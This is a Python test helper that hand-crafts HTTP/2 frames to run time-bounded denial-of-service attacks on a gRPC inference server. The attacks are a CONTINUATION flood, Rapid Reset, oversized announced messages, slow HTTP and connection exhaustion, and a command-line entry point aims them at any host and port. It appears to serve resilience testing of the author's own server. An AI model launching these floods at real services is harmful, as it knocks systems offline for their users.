"""What peers that mean harm do, each bounded in time: raw sockets, HTTP/2 written by hand.

Used by attacks_test.py against the server itself; by hand, against it or a proxy before it:
  attacks.py NAME HOST:PORT [SECONDS]
"""

import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INFER = "/inference.GRPCInferenceService/ModelInfer"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream) + payload


def literal(name, value):
    """A header field that is not indexed (RFC 7541, 6.2.2)."""
    out = b"\0"
    for text in (name.encode(), value.encode()):
        assert len(text) < 127
        out += bytes([len(text)]) + text
    return out


def call_headers(path=INFER):
    return b"".join(literal(name, value) for name, value in [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
        ("content-type", "application/grpc"), ("te", "trailers")])


def connect(address, timeout=5):
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host.strip("[]"), int(port)), timeout)
    return connection


def http2(address):
    connection = connect(address)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return connection


def send_all_it_takes(connection, payload):
    """False once the peer does not take it any more."""
    try:
        connection.sendall(payload)
    except OSError:
        return False
    return True


def until(seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        yield end - time.monotonic()


def drop_what_comes(connection):
    def read():
        try:
            while connection.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=read, daemon=True).start()


def connections(address, count, seconds):
    """Opens `count` connections at once and holds them."""
    held = []
    for _ in range(count):
        try:
            held.append(connect(address, 1))
        except OSError:
            break
    time.sleep(seconds)
    for connection in held:
        connection.close()


def continuation(address, seconds, peers=2, rate=320_000):
    """One header of many megabytes, in CONTINUATION frames of a kilobyte that never end."""
    links = [http2(address) for _ in range(peers)]
    for link in links:
        drop_what_comes(link)
        # A literal whose value is announced as 12 MB (RFC 7541, 5.1: 127 + more).
        more, length = 12_000_000 - 127, b"\x7f"
        while more > 0x7F:
            length += bytes([more & 0x7F | 0x80])
            more >>= 7
        link.sendall(frame(HEADERS, 0, 1, call_headers() + b"\0\1a" + length + bytes([more])))
    piece = frame(CONTINUATION, 0, 1, b"v" * 1024)
    for _ in until(seconds):
        links = [link for link in links if send_all_it_takes(link, piece * 4)]
        if not links:
            return
        time.sleep(4 * 1024 / rate)


def rapid_reset(address, seconds, most=100_000):
    """Calls that are begun and reset at once."""
    link = http2(address)
    drop_what_comes(link)
    headers, stream, sent = call_headers(), 1, 0
    for _ in until(seconds):
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_HEADERS, stream, headers)
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        if not send_all_it_takes(link, burst) or (sent := sent + 100) >= most:
            break
    link.close()
    return sent


class Sender:
    """Sends one stream's data as fast as the server's windows let it, and reads nothing else."""

    def __init__(self, address):
        self.link = http2(address)
        self.windows = {0: 65_535, 1: 65_535}
        self.initial = 65_535
        self.changed = threading.Condition()
        self.open = True
        threading.Thread(target=self._read, daemon=True).start()
        self.link.sendall(frame(HEADERS, END_HEADERS, 1, call_headers()))

    def _read(self):
        received = b""
        try:
            while piece := self.link.recv(1 << 16):
                received += piece
                while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
                    size = int.from_bytes(received[:3], "big")
                    self._take(received[3], received[4], int.from_bytes(received[5:9], "big"),
                               received[9:9 + size])
                    received = received[9 + size:]
        except OSError:
            pass
        with self.changed:
            self.open = False
            self.changed.notify_all()

    def _take(self, kind, flags, stream, payload):
        with self.changed:
            if kind == SETTINGS and not flags & ACK:
                for at in range(0, len(payload), 6):
                    if payload[at:at + 2] == b"\0\4":
                        value = int.from_bytes(payload[at + 2:at + 6], "big")
                        self.windows[1] += value - self.initial
                        self.initial = value
                self.link.sendall(frame(SETTINGS, ACK, 0))
            elif kind == WINDOW_UPDATE and stream in self.windows:
                self.windows[stream] += int.from_bytes(payload, "big")
            elif kind == PING and not flags & ACK:
                self.link.sendall(frame(PING, ACK, 0, payload))
            elif kind == RST_STREAM:
                self.open = False
            self.changed.notify_all()

    def send(self, size, end):
        """Zeros; False where the server ended the stream or the time is up."""
        while size > 0:
            with self.changed:
                while self.open and min(self.windows.values()) <= 0:
                    if not self.changed.wait(max(0.0, end - time.monotonic())):
                        return False
                if not self.open:
                    return False
                part = min(16_384, size, *self.windows.values())
                for stream in self.windows:
                    self.windows[stream] -= part
            if not send_all_it_takes(self.link, frame(DATA, 0, 1, bytes(part))):
                return False
            size -= part
        return True


def announced(address, seconds, messages=40, size=2**31 - 1, sent=16 << 20):
    """Messages of `size` bytes announced, of each `sent` bytes sent, on a connection each."""
    end = time.monotonic() + seconds
    senders = [Sender(address) for _ in range(messages)]

    def send(sender):
        header = b"\0" + struct.pack(">I", size)
        with sender.changed:
            for stream in sender.windows:
                sender.windows[stream] -= len(header)
        if send_all_it_takes(sender.link, frame(DATA, 0, 1, header)):
            sender.send(sent, end)

    threads = [threading.Thread(target=send, args=(sender,)) for sender in senders]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    yield  # here they are all held
    for sender in senders:
        sender.link.close()


def slow_http(address, seconds, count=60):
    """Sockets that send a byte now and then and are opened again when they are closed."""
    links = []
    for _ in until(seconds):
        while len(links) < count:
            links.append(connect(address))
            links[-1].sendall(b"GET /metrics HT")
        time.sleep(0.2)
        links = [link for link in links if send_all_it_takes(link, b"T")]


def pings(address, seconds, interval=1.0):
    """A ping each `interval`; the number of those that were answered."""
    link = http2(address)
    for _ in until(seconds):
        if not send_all_it_takes(link, frame(PING, 0, 0, b"12345678")):
            return False
        time.sleep(interval)
    return True


ATTACKS = {"continuation": continuation, "rapid-reset": rapid_reset, "announced": announced,
           "slow-http": slow_http, "pings": pings}

if __name__ == "__main__":
    if len(sys.argv) < 3 or sys.argv[1] not in ATTACKS:
        sys.exit(f"{__doc__}NAME: {', '.join(ATTACKS)}")
    outcome = ATTACKS[sys.argv[1]](sys.argv[2], float(sys.argv[3]) if len(sys.argv) > 3 else 10)
    print(list(outcome) if sys.argv[1] == "announced" else outcome)
